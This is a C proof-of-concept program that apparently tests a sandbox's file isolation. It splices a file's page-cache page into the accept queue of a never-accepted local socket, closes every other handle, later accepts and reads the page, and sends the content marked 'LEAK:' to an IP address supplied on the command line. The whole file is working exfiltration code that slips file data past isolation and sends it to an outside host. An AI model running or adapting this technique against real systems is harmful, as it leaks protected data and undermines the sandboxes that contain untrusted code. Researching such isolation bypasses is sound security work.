// acceptq IP PATH SECS [MODE]: sends PRE; opens PATH (an ordinary file now) and
// splices its first page into a pipe, then from the pipe into a connected local
// socket whose server end was never accept()ed: the page-cache folio sits in the
// receive queue of a connection in a *listening* socket's accept queue (no
// descriptor of the sandbox is that connection; the listener answers FIONREAD with
// EINVAL). Closes the file, the pipe and the client end, says ready, waits, then
// accept()s and reads: the folio's current content.
// MODE: "tcp" (default: 127.0.0.1 inside the sandbox), "unix" (abstract name),
// "control" (tcp, accept()ed before ready: the queue is a descriptor's, a holder).
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/un.h>
#include <netinet/in.h>
#include "../../isolated-files-r4/send.c"
int main(int argc,char**argv){ setvbuf(stdout,0,_IONBF,0); const char*ip=argv[1];
  const char*mode=argc>4?argv[4]:"tcp"; int ux=!strcmp(mode,"unix"), ctl=!strcmp(mode,"control");
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  int L,C; struct sockaddr_storage ss={0}; socklen_t sl;
  if(ux){ struct sockaddr_un*u=(void*)&ss; u->sun_family=AF_UNIX; memcpy(u->sun_path,"\0r9acceptq",10);
    sl=offsetof(struct sockaddr_un,sun_path)+10; L=socket(AF_UNIX,SOCK_STREAM,0); C=socket(AF_UNIX,SOCK_STREAM,0);
  } else { struct sockaddr_in*a=(void*)&ss; a->sin_family=AF_INET; a->sin_port=htons(47999); a->sin_addr.s_addr=htonl(0x7f000001);
    sl=sizeof *a; L=socket(AF_INET,SOCK_STREAM,0); C=socket(AF_INET,SOCK_STREAM,0); int one=1; setsockopt(L,SOL_SOCKET,SO_REUSEADDR,&one,4); }
  if(bind(L,(void*)&ss,sl)||listen(L,4)){perror("bind/listen");return 1;}
  if(connect(C,(void*)&ss,sl)){perror("connect local");return 1;}
  int A=-1; if(ctl){ A=accept(L,0,0); printf("control: accepted before ready (fd %d)\n",A); }
  int fd=open(argv[2],O_RDONLY); if(fd<0){perror("open");return 1;}
  int p[2]; if(pipe(p)){perror("pipe");return 1;}
  ssize_t n=splice(fd,NULL,p[1],NULL,4096,0); printf("splice file->pipe: %zd\n",n); if(n<=0) return 1;
  ssize_t m=splice(p[0],NULL,C,NULL,n,0); printf("splice pipe->socket: %zd%s%s\n",m,m<0?" ":"",m<0?strerror(errno):"");
  if(m<=0) return 1;
  close(fd); close(p[0]); close(p[1]); usleep(100000);
  int lq=-1; int lr=ioctl(L,FIONREAD,&lq);
  printf("listener FIONREAD: %s\n", lr?strerror(errno):"answers");
  close(C); printf("file, pipe and client end closed: the page is held by the accept queue only\n");
  close(open("ready",O_CREAT|O_WRONLY,0644));
  sleep(atoi(argv[3]));
  if(A<0) A=accept(L,0,0); if(A<0){perror("accept");return 1;}
  char buf[4097]={0}; ssize_t r=read(A,buf,4096); if(r<0){perror("read");return 1;}
  printf("ACCEPTED, READS %zd bytes: %.40s\n",r,buf);
  char msg[128]; int l=snprintf(msg,sizeof msg,"LEAK:%.40s",buf);
  printf("POST send: %d\n",send_buf(ip,msg,l)); return 0; }
